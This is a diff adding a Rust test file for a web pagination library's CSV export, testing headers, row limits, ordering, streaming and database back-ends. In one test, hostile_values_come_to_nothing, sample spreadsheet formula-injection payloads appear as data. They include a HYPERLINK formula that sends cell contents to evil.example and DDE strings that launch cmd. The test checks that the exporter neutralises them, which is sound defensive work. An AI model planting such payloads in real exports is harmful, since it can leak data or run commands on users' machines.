@@ -1,0 +1,595 @@
+//! CSV: all rows in one file, by `tg_format=csv`.
+
+use crate::support::database;
+use crate::support::log;
+use crate::support::server;
+use std::collections::HashMap;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicU64, Ordering};
+
+use crate::support::database::{Database, Row, Value, on_each, suite};
+use crate::support::server::get;
+use crate::support::{Person, people};
+use actix_web::{App, HttpServer, get, test, web};
+use futures::{StreamExt, TryStreamExt, stream};
+use sea_orm::EntityTrait;
+use serde_json::json;
+use sqlx::AssertSqlSafe;
+use tg_paginate::prelude::*;
+use tg_paginate::{
+    Columns, Csv, Dataset, Error, Fetched, MaxCsv, MaxSort, Nulls, Paginator, Plan, Request,
+    Streamed, rows,
+};
+
+const CONFIG: PaginateConfig = PaginateConfig::new().limit(2);
+
+async fn start<D: Dataset>(config: PaginateConfig, query: &str, rows: D) -> Result<Csv, Error> {
+    Paginator::new("persons", config).csv(Request::new("/persons", query), rows).await
+}
+
+/// The file without the mark of UTF-8.
+async fn file<D: Dataset>(config: PaginateConfig, query: &str, rows: D) -> Result<String, Error> {
+    let bytes = start(config, query, rows).await?.try_concat().await?;
+    let text = String::from_utf8(bytes).unwrap();
+    Ok(text.strip_prefix('\u{feff}').unwrap_or(&text).to_owned())
+}
+
+/// What the client reads of a refusal.
+fn refusal(error: &Error) -> String {
+    assert_eq!(error.status(), 422);
+    error.to_string()
+}
+
+#[get("/json")]
+#[paginate(var = "persons", limit = 2, max_limit = 5, default_order = "-age", csv)]
+async fn without_template() -> Context {
+    context! { persons: people() }
+}
+
+#[get("/html")]
+#[paginate(var = "persons", limit = 2, template = "persons.html", csv, max_csv = 7)]
+async fn with_template() -> Context {
+    context! { persons: people() }
+}
+
+#[get("/full")]
+#[paginate(var = "persons", limit = 2, template = "persons.html", csv, max_csv = 6)]
+async fn too_many() -> Context {
+    context! { persons: people() }
+}
+
+#[get("/off")]
+#[paginate(var = "persons", limit = 2)]
+async fn off() -> Context {
+    context! { persons: people() }
+}
+
+#[get("/never")]
+#[paginate(var = "persons", limit = 2, csv = false)]
+async fn never() -> Context {
+    context! { persons: people() }
+}
+
+#[get("/two")]
+#[paginate(var = "cats")]
+#[paginate(var = "dogs", csv)]
+async fn two() -> Context {
+    context! { cats: vec!["Tom"], dogs: vec!["Rex"] }
+}
+
+#[get("/plain")]
+#[paginate(var = "persons", limit = 2, default_order = "id", params = "plain", csv)]
+async fn plain() -> Context {
+    context! { persons: people() }
+}
+
+/// The answer of an app with all of these, whose config says this of pagination.
+async fn ask(config: PaginateConfig, uri: &str) -> server::Answer {
+    let mut tera = tg_paginate::tera();
+    let source = "{{ tg.paginate.href_csv }}|{{ tg.paginate | get_href(page=2) }}";
+    tera.add_raw_template("persons.html", source).unwrap();
+    let app = App::new().app_data(web::Data::new(tera)).app_data(config);
+    let app = app.service((without_template, with_template, too_many, off, never, two, plain));
+    get(&test::init_service(app).await, uri).await
+}
+
+#[actix_web::test]
+async fn the_answer_is_a_file_to_save_with_all_rows_in_order() {
+    let answer = ask(PaginateConfig::new(), "/json?tg_format=csv").await;
+    assert_eq!(answer.status, 200);
+    assert_eq!(answer.header("content-type"), Some("text/csv; charset=utf-8; header=present"));
+    let disposition = "attachment; filename=\"persons.csv\"";
+    assert_eq!(answer.header("content-disposition"), Some(disposition));
+    assert_eq!(answer.header("vary"), Some("Accept"));
+    let expected = "\u{feff}id,name,age\r\n7,Donald,88\r\n1,Grace,85\r\n5,Barbara,85\r\n\
+                    4,Edsger,72\r\n3,Alan,41\r\n2,Ada,36\r\n6,Ada,28\r\n";
+    assert_eq!(answer.body, expected);
+}
+
+#[actix_web::test]
+async fn the_urls_ordering_applies_and_page_and_limit_do_not() {
+    let uri = "/json?persons_tgp_ordering=name,-age&persons_tgp_order=name&persons_tgp_no=3\
+               &persons_tgp_limit=1&tg_format=csv";
+    let ids =
+        |body: &str| body.lines().skip(1).map(|line| line[..1].to_owned()).collect::<String>();
+    assert_eq!(ids(&ask(PaginateConfig::new(), uri).await.body), "1475326");
+    let foreign = "/json?persons_tgp_ordering=nope&tg_format=csv";
+    assert_eq!(ids(&ask(PaginateConfig::new(), foreign).await.body), "7154326");
+}
+
+#[actix_web::test]
+async fn it_is_off_unless_the_attribute_or_the_app_says_so() {
+    let on = PaginateConfig::new().csv();
+    for (config, uri, is_csv) in [
+        (PaginateConfig::new(), "/off?tg_format=csv", false),
+        (PaginateConfig::new(), "/json?tg_format=json", false),
+        (PaginateConfig::new(), "/json", false),
+        (on, "/off?tg_format=csv", true),
+        (on, "/never?tg_format=csv", false),
+        (on.no_csv(), "/json?tg_format=csv", true),
+    ] {
+        let answer = ask(config, uri).await;
+        assert_eq!(answer.status, 200);
+        assert_eq!(answer.body.starts_with('\u{feff}'), is_csv, "{uri}: {}", answer.body);
+    }
+}
+
+#[actix_web::test]
+async fn a_link_to_it_keeps_filters_and_ordering_and_no_other_link_leads_to_it() {
+    let uri = "/html?q=a%26b&q=c&persons_tgp_ordering=-age&persons_tgp_no=2&tg_format=html";
+    let answer = ask(PaginateConfig::new(), uri).await.body;
+    let (csv, page) = answer.split_once('|').unwrap();
+    let csv = csv.replace("&amp;", "&");
+    let state = "/html?q=a%26b&q=c&persons_tgp_limit=2&persons_tgp_ordering=-age";
+    assert_eq!(csv, format!("{state}&tg_format=csv"));
+    assert!(!page.contains("tg_format"), "{page}");
+    let names = ask(PaginateConfig::new(), &csv).await.body;
+    assert!(names.starts_with("\u{feff}id,name,age\r\n7,Donald,88"), "{names}");
+
+    let json = ask(PaginateConfig::new(), "/off").await.json();
+    assert_eq!(json["tg"]["paginate"]["href_csv"], json!(null));
+    let href = |json: serde_json::Value| json["tg"]["paginate"]["href_csv"].clone();
+    assert_eq!(href(ask(PaginateConfig::new(), "/plain").await.json()), "/plain?tg_format=csv");
+    let sorted = ask(PaginateConfig::new(), "/plain?sort=name&page=2").await.json();
+    assert_eq!(href(sorted), "/plain?sort=name&tg_format=csv");
+}
+
+#[actix_web::test]
+async fn of_several_the_one_that_says_so_is_exported() {
+    let none = PaginateConfig::new();
+    assert_eq!(ask(none, "/two?tg_format=csv").await.body, "\u{feff}value\r\nRex\r\n");
+    let paginates = |answer: server::Answer| answer.json()["tg"]["paginates"].clone();
+    let json = paginates(ask(none, "/two").await);
+    assert_eq!(json["cats"]["href_csv"], json!(null));
+    assert_eq!(json["dogs"]["href_csv"], "/two?dogs_tgp_limit=10&tg_format=csv");
+    // an app may say so for all: then it is the topmost
+    assert_eq!(ask(none.csv(), "/two?tg_format=csv").await.body, "\u{feff}value\r\nTom\r\n");
+    assert_eq!(paginates(ask(none.csv(), "/two").await)["dogs"]["href_csv"], json!(null));
+}
+
+#[actix_web::test]
+async fn more_rows_than_max_csv_are_refused_before_the_first_byte() {
+    assert_eq!(ask(PaginateConfig::new(), "/html?tg_format=csv").await.status, 200);
+    let answer = ask(PaginateConfig::new(), "/full?tg_format=csv").await;
+    assert_eq!(answer.status, 422);
+    assert!(answer.header("content-type").unwrap().starts_with("text/html"));
+    assert!(answer.body.contains("There are more than 6 rows: filter them first."));
+    // the page is there all the same
+    assert_eq!(ask(PaginateConfig::new(), "/full").await.status, 200);
+    let answer = ask(PaginateConfig::new().max_csv(MaxCsv::Rows(6)), "/json?tg_format=csv").await;
+    let messages = &answer.json()["errors"]["query"]["tg_format"];
+    assert_eq!(messages, &json!(["There are more than 6 rows: filter them first."]));
+}
+
+#[tokio::test]
+async fn a_hundred_thousand_rows_are_built_in() {
+    let bytes = file(CONFIG, "", rows(0..100_000)).await.unwrap();
+    assert_eq!(bytes.lines().count(), 100_001);
+    let error = file(CONFIG, "", rows(0..100_001)).await.unwrap_err();
+    assert!(refusal(&error).contains("more than 100000 rows"), "{error}");
+    let unlimited = CONFIG.max_csv(MaxCsv::Unlimited);
+    assert_eq!(file(unlimited, "", rows(0..100_001)).await.unwrap().lines().count(), 100_002);
+    assert_eq!(file(CONFIG.max_csv(MaxCsv::Rows(0)), "", rows(0..0)).await.unwrap(), "");
+}
+
+#[tokio::test]
+async fn a_grid_gives_its_titles_and_the_values_without_their_formats() {
+    let born = |person: &Person| 2000 - person.age;
+    let grid = DataGrid::new([
+        Column::new("name").title("Full, name").link("/persons/{id}"),
+        Column::new("born").computed(born).number(),
+        Column::new("age").title("=1").hide_below(tg_paginate::Breakpoint::Large).sortable(),
+        Column::new("missing").bool(),
+    ]);
+    let grid = grid.unwrap();
+    let sorted = file(CONFIG, "persons_tgp_ordering=-age", grid.rows(people())).await.unwrap();
+    let (first, rest) = sorted.split_once("\r\n").unwrap();
+    assert_eq!(first, "\"Full, name\",Born,\"'=1\",Missing");
+    assert!(rest.starts_with("Donald,1912,88,\r\nGrace,1915,85,\r\n"), "{rest}");
+    let empty = file(CONFIG, "", grid.rows(Vec::<Person>::new())).await.unwrap();
+    assert_eq!(empty, "\"Full, name\",Born,\"'=1\",Missing\r\n");
+}
+
+#[tokio::test]
+async fn a_value_of_a_context_is_exported_as_a_dataset_is() {
+    let paginators = [Paginator::new("persons", CONFIG.csv())];
+    let query = "persons_tgp_ordering=-n&tg_format=csv";
+    let paging = tg_paginate::Paging::read(&paginators, Request::new("/", query)).unwrap();
+    assert!(paging.wants_csv());
+    let numbers: Vec<_> =
+        (0..900).map(|n| json!({ "at": { "x": -n }, "n": n * 7 % 900 })).collect();
+    let csv = paging.csv(context! { persons: numbers }).await.unwrap();
+    let bytes = csv.try_concat().await.unwrap();
+    let text = String::from_utf8(bytes).unwrap();
+    let lines: Vec<_> = text.lines().collect();
+    assert_eq!(lines[..2], ["\u{feff}at.x,n", "-257,899"]);
+    assert_eq!((lines.len(), lines[900]), (901, "0,0"));
+}
+
+#[tokio::test]
+async fn hostile_values_come_to_nothing() {
+    let evil = [
+        "=HYPERLINK(\"http://evil.example?\"&A1,\"ok\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1)",
+        "\t=1",
+        "\r\n=1",
+        "a\",\"=1",
+        "-5",
+        "=\0",
+        "x;=1+cmd|'/C calc'!A0",
+        "x\t-2+3",
+        "x; \"＝1",
+        "x;-5",
+        "\u{a0}\u{feff} =1+1",
+    ];
+    let text = file(CONFIG, "", evil.map(|text| json!({ "=a": text })).to_vec()).await.unwrap();
+    let expected = "\"'=a\"\r\n\
+                    \"'=HYPERLINK(\"\"http://evil.example?\"\"&A1,\"\"ok\"\")\"\r\n\
+                    \"'+1+cmd|' /C calc'!A0\"\r\n\"'-2+3\"\r\n\"'@SUM(A1)\"\r\n\
+                    \"'\t'=1\"\r\n\"'\r\n'=1\"\r\n\"a\"\",\"\"=1\"\r\n-5\r\n\"'=\0\"\r\n\
+                    \"x;'=1+cmd|'/C calc'!A0\"\r\n\"x\t'-2+3\"\r\n\"x;' \"\"＝1\"\r\n\"x;'-5\"\r\n\
+                    \"'\u{a0}\u{feff} =1+1\"\r\n";
+    assert_eq!(text, expected);
+}
+
+#[tokio::test]
+async fn a_number_before_a_text_is_no_formula_where_semicolons_part_cells() {
+    let row = json!({ "a": -5, "b": "2+cmd|'/C calc'!A0" });
+    assert_eq!(file(CONFIG, "", vec![row]).await.unwrap(), "a,b\r\n-5,\"2+cmd|'/C calc'!A0\"\r\n");
+}
+
+#[tokio::test]
+async fn phone_numbers_keep_their_plus_and_numbers_stay_numbers() {
+    let texts = ["+4930123456", "+49 30 123456", "-5", "-0.02", "+1-1", "'+1", "-1234567890123456"];
+    let rows = texts.map(|text| json!({ "a": text })).into_iter();
+    let rows = rows.chain([json!({ "a": -70 }), json!({ "a": -1_234_567_890_123_456_i64 })]);
+    let expected = "a\r\n\"'+4930123456\"\r\n\"'+49 30 123456\"\r\n-5\r\n-0.02\r\n\"'+1-1\"\r\n\
+                    '+1\r\n\"'-1234567890123456\"\r\n-70\r\n-1234567890123456\r\n";
+    assert_eq!(file(CONFIG, "", rows.collect::<Vec<_>>()).await.unwrap(), expected);
+}
+
+#[tokio::test]
+async fn columns_of_hash_maps_come_in_one_order() {
+    let names = ["id", "age", "size", "rank", "year"];
+    for _ in 0..10 {
+        let row = |n: i32| HashMap::from(names.map(|name| (name, n)));
+        let text = file(CONFIG, "", (1..=9).map(row).collect::<Vec<_>>()).await.unwrap();
+        assert_eq!(
+            text.lines().take(2).collect::<Vec<_>>(),
+            ["age,id,rank,size,year", "1,1,1,1,1"]
+        );
+    }
+}
+
+#[tokio::test]
+async fn columns_of_structs_keep_their_order() {
+    #[derive(Clone, serde::Serialize)]
+    struct Sparse {
+        z: u8,
+        #[serde(skip_serializing_if = "Option::is_none")]
+        y: Option<u8>,
+        #[serde(skip_serializing_if = "Option::is_none")]
+        x: Option<u8>,
+    }
+
+    let rows = vec![
+        Sparse { z: 1, y: None, x: Some(2) },
+        Sparse { z: 1, y: Some(3), x: None },
+        Sparse { z: 1, y: Some(3), x: Some(2) },
+    ];
+    let text = file(CONFIG, "", rows).await.unwrap();
+    assert_eq!(text, "z,x,y\r\n1,2,\r\n1,,3\r\n1,2,3\r\n");
+}
+
+fn table() -> Vec<Row> {
+    let numbers = (0..1200).map(|number| {
+        let text = Value::Text(format!("=text \"{}\"", number % 7));
+        let real = if number % 5 == 0 { Value::Null } else { Value::Real(f64::from(number)) };
+        [Value::Integer(i64::from(number) % 11 - 5), text, real, Value::Null, Value::Null]
+    });
+    numbers.collect()
+}
+
+#[tokio::test]
+async fn every_database_gives_all_rows_in_the_order_of_memory() {
+    #[derive(Clone, serde::Serialize)]
+    struct InMemory {
+        id: u32,
+        a: serde_json::Value,
+        b: serde_json::Value,
+        c: serde_json::Value,
+    }
+
+    let memory = (0..).zip(table()).map(|(id, [a, b, c, ..])| {
+        let (a, b, c) = (a.json(), b.json(), c.json());
+        InMemory { id, a, b, c }
+    });
+    let memory: Vec<_> = memory.collect();
+    let config = CONFIG.nulls(Nulls::Last).max_sort(MaxSort::Unlimited);
+    for database in database::all("csv").await {
+        database.table("suite", &table()).await;
+        for ordering in ["id", "-a,c,id", "b,-c,-id", "c,b,id"] {
+            let query = format!("persons_tgp_ordering={ordering}&persons_tgp_no=7");
+            let expected = file(config, &query, memory.clone()).await.unwrap();
+            let sql = "SELECT id, a, b, c FROM suite -- all";
+            let read = on_each!(&database, pool => {
+                file(config, &query, sqlx::query(sql).on(pool).key("id")).await.unwrap()
+            });
+            assert_eq!(without_points(&read), without_points(&expected), "{}", database.name());
+            let models = suite::Entity::find().on(&database.sea_orm());
+            let read = file(config, &query, models).await.unwrap();
+            assert_eq!(ids(&read), ids(&expected), "{} with SeaORM", database.name());
+        }
+        too_many_in(&database).await;
+        none_in(&database).await;
+    }
+}
+
+/// Whole numbers are written with or without a point.
+fn without_points(text: &str) -> String {
+    text.replace(".0\r\n", "\r\n")
+}
+
+fn ids(text: &str) -> Vec<&str> {
+    text.lines().map(|line| line.split_once(',').unwrap().0).collect()
+}
+
+async fn too_many_in(database: &Database) {
+    let sql = "SELECT id FROM suite";
+    let most = |rows| CONFIG.max_csv(MaxCsv::Rows(rows));
+    on_each!(database, pool => {
+        let query = || sqlx::query(sql).on(pool).key("id");
+        let error = start(most(1199), "", query()).await.unwrap_err();
+        assert!(refusal(&error).contains("more than 1199 rows"));
+        assert_eq!(file(most(1200), "", query()).await.unwrap().lines().count(), 1201);
+        assert!(start(CONFIG.strict(), "persons_tgp_ordering=nope", query()).await.is_err());
+    });
+}
+
+async fn none_in(database: &Database) {
+    let sql = "SELECT id, a FROM suite WHERE id < 0";
+    let grid = DataGrid::<tg_paginate::Record>::new([("Number", "id"), ("A", "a")]).unwrap();
+    on_each!(database, pool => {
+        assert_eq!(file(CONFIG, "", sqlx::query(sql).on(pool).key("id")).await.unwrap(), "");
+        let rows = grid.rows(sqlx::query(sql).on(pool).key("id"));
+        assert_eq!(file(CONFIG, "", rows).await.unwrap(), "Number,A\r\n");
+    });
+}
+
+/// A million million rows: whoever waits for all of them waits for ever.
+fn endless() -> String {
+    let ten =
+        "(SELECT 0 AS n UNION ALL SELECT 1".to_owned() + &" UNION ALL SELECT 2".repeat(8) + ")";
+    let tables: Vec<_> = (0..12).map(|place| format!("{ten} AS t{place}")).collect();
+    format!("SELECT t0.n, 'some text to fill a buffer' AS text FROM {}", tables.join(", "))
+}
+
+#[tokio::test]
+async fn the_database_stops_when_the_client_goes_away() {
+    for database in database::all("csv stopped").await {
+        let sql = AssertSqlSafe(endless());
+        let config = CONFIG.max_csv(MaxCsv::Unlimited);
+        on_each!(&database, pool => {
+            let mut csv = start(config, "", sqlx::query(sql).on(pool)).await.unwrap();
+            assert!(csv.next().await.unwrap().is_ok());
+            drop(csv);
+            // the pool has one connection
+            sqlx::query("SELECT 1").fetch_one(pool).await.unwrap();
+        });
+    }
+}
+
+#[tokio::test]
+async fn only_as_many_rows_are_read_as_the_client_takes() {
+    let read = Arc::new(AtomicU64::new(0));
+    let mut csv = start(CONFIG, "", Counted(Arc::clone(&read), 50_000)).await.unwrap();
+    let mut chunks = 0;
+    while let Some(chunk) = csv.next().await {
+        assert!(chunk.unwrap().len() < 10_000);
+        chunks += 1;
+        assert!(read.load(Ordering::Relaxed) <= 500 * (chunks + 1));
+    }
+    assert_eq!(read.load(Ordering::Relaxed), 50_000);
+}
+
+/// Numbers that are counted when they are read; the row after the last is an error.
+#[derive(Clone)]
+struct Counted(Arc<AtomicU64>, u64);
+
+impl Dataset for Counted {
+    type Row = u64;
+
+    fn columns(&self) -> Columns {
+        Columns::none()
+    }
+
+    async fn fetch(self, plan: &Plan) -> Result<Fetched<u64>, Error> {
+        let slice = plan.slice(self.1)?;
+        self.0.fetch_add(1, Ordering::Relaxed);
+        let rows = slice.offset()..slice.offset() + slice.len();
+        Ok(Fetched::new(slice, rows.collect()))
+    }
+
+    fn stream(self, _: &Plan) -> Streamed<u64> {
+        let Counted(read, rows) = self;
+        Streamed::new(stream::iter(0..rows).map(move |row| {
+            read.fetch_add(1, Ordering::Relaxed);
+            Ok(row)
+        }))
+    }
+}
+
+/// The same, page by page.
+struct Paged(Counted);
+
+impl Dataset for Paged {
+    type Row = u64;
+
+    fn columns(&self) -> Columns {
+        Columns::none()
+    }
+
+    async fn fetch(self, plan: &Plan) -> Result<Fetched<u64>, Error> {
+        self.0.fetch(plan).await
+    }
+
+    fn stream(self, plan: &Plan) -> Streamed<u64> {
+        Streamed::by_pages(self.0, plan, 100)
+    }
+}
+
+#[tokio::test]
+async fn a_dataset_of_ones_own_can_be_exported_page_by_page() {
+    for (rows, fetches) in [(0, 1), (99, 1), (250, 3), (300, 4)] {
+        let fetched = Arc::new(AtomicU64::new(0));
+        let text = file(CONFIG, "", Paged(Counted(Arc::clone(&fetched), rows))).await.unwrap();
+        let expected = (0..rows).map(|row| format!("{row}\r\n")).collect::<String>();
+        assert_eq!(text.trim_start_matches("value\r\n"), expected);
+        assert_eq!(fetched.load(Ordering::Relaxed), fetches, "{rows}");
+    }
+    let fetched = Arc::new(AtomicU64::new(0));
+    let most = CONFIG.max_csv(MaxCsv::Rows(299));
+    let error = file(most, "", Paged(Counted(Arc::clone(&fetched), 300))).await.unwrap_err();
+    assert!(refusal(&error).contains("more than 299"));
+    assert_eq!(fetched.load(Ordering::Relaxed), 1, "the first page tells how many there are");
+}
+
+#[tokio::test]
+async fn rows_that_grow_beyond_the_cap_while_they_are_read_end_in_an_error() {
+    let rows = Counted(Arc::default(), 1000);
+    let mut csv = start(CONFIG.max_csv(MaxCsv::Rows(800)), "", rows).await.unwrap();
+    assert!(csv.next().await.unwrap().is_ok());
+    assert!(refusal(&csv.next().await.unwrap().unwrap_err()).contains("more than 800 rows"));
+    assert!(csv.next().await.is_none());
+}
+
+#[tokio::test]
+async fn a_field_that_the_first_rows_do_not_show_is_an_error_and_not_lost() {
+    let (log, _guard) = log::capture();
+    let rows = (0..501).map(|n| if n < 500 { json!({ "a": n }) } else { json!({ "b": n }) });
+    let error = file(CONFIG, "", rows.collect::<Vec<_>>()).await.unwrap_err();
+    let expected = "a row shows `b`, which the first rows do not: export the rows of a grid, or \
+                    show it in all";
+    assert_eq!(error.to_string(), expected);
+    let text = log::text(&log);
+    assert!(text.contains("an export was cut off") && text.contains("`b`"), "{text}");
+}
+
+/// More rows than a server keeps before it sends them.
+const MANY: u64 = 90_000;
+
+/// Half of a file, and then an error.
+struct Failing;
+
+impl Dataset for Failing {
+    type Row = u64;
+
+    fn columns(&self) -> Columns {
+        Columns::none()
+    }
+
+    async fn fetch(self, _: &Plan) -> Result<Fetched<u64>, Error> {
+        Err(Error::source("not now"))
+    }
+
+    fn stream(self, _: &Plan) -> Streamed<u64> {
+        let rows = stream::iter(0..MANY).map(Ok);
+        Streamed::new(rows.chain(stream::iter([Err(Error::source("the disk is on fire"))])))
+    }
+}
+
+#[get("/failing")]
+#[paginate(var = "numbers", csv)]
+async fn failing() -> Context {
+    context! { numbers: Failing }
+}
+
+#[actix_web::test]
+async fn an_error_in_the_middle_breaks_the_answer_off() {
+    let server = HttpServer::new(|| App::new().service(failing));
+    let server = server.workers(1).disable_signals().bind(("127.0.0.1", 0)).unwrap();
+    let address = format!("http://{}/failing?tg_format=csv", server.addrs()[0]);
+    actix_web::rt::spawn(server.run());
+    let mut answer = reqwest::get(address).await.unwrap();
+    assert_eq!(answer.status(), 200);
+    let mut body = Vec::new();
+    let broken = loop {
+        match answer.chunk().await {
+            Ok(Some(chunk)) => body.extend(chunk),
+            Ok(None) => break false,
+            Err(_) => break true,
+        }
+    };
+    let body = String::from_utf8(body).unwrap();
+    assert!(broken, "it looks like a whole file");
+    assert!(body.starts_with("\u{feff}value\r\n0\r\n1\r\n"), "{} bytes", body.len());
+}
+
+#[tokio::test]
+async fn a_row_that_cannot_be_read_ends_the_file_in_an_error() {
+    #[derive(serde::Serialize, sqlx::FromRow)]
+    struct Row {
+        id: i64,
+        n: i64,
+    }
+
+    let databases = database::all("csv decoded").await;
+    let Database::Sqlite(pool) = &databases[0] else { panic!("SQLite is always there") };
+    let sql = "WITH RECURSIVE t(id) AS (SELECT 1 UNION ALL SELECT id + 1 FROM t WHERE id < 900)
+               SELECT id, CASE id WHEN 700 THEN 'text' ELSE id END AS n FROM t";
+    let rows = || sqlx::query_as::<_, Row>(sql).on(pool).key("id");
+    let mut csv = start(CONFIG, "", rows()).await.unwrap();
+    assert!(csv.next().await.unwrap().is_ok());
+    assert!(matches!(csv.next().await, Some(Err(Error::Database(_)))));
+    drop(csv);
+    // and where it is one of the first it is an answer of its own
+    let error = start(CONFIG, "persons_tgp_ordering=-id", rows()).await.unwrap_err();
+    assert_eq!(error.status(), 500);
+}
+
+#[tokio::test]
+async fn what_only_the_row_type_has_is_sorted_in_memory_up_to_max_sort() {
+    #[derive(sqlx::FromRow)]
+    struct Row {
+        id: i64,
+    }
+
+    impl serde::Serialize for Row {
+        fn serialize<S: serde::Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
+            json!({ "id": self.id, "rest": self.id % 3 }).serialize(serializer)
+        }
+    }
+
+    let databases = database::all("csv computed").await;
+    let Database::Sqlite(pool) = &databases[0] else { panic!("SQLite is always there") };
+    let sql = "WITH RECURSIVE t(id) AS (SELECT 1 UNION ALL SELECT id + 1 FROM t WHERE id < 5)
+               SELECT id FROM t";
+    let query = "persons_tgp_ordering=-rest";
+    let rows = || sqlx::query_as::<_, Row>(sql).on(pool).key("id");
+    let text = file(CONFIG, query, rows()).await.unwrap();
+    assert_eq!(text, "id,rest\r\n2,2\r\n5,2\r\n1,1\r\n4,1\r\n3,0\r\n");
+    let unsorted = file(CONFIG.max_sort(MaxSort::Rows(4)), query, rows()).await.unwrap();
+    assert_eq!(unsorted, "id,rest\r\n1,1\r\n2,2\r\n3,0\r\n4,1\r\n5,2\r\n");
+}
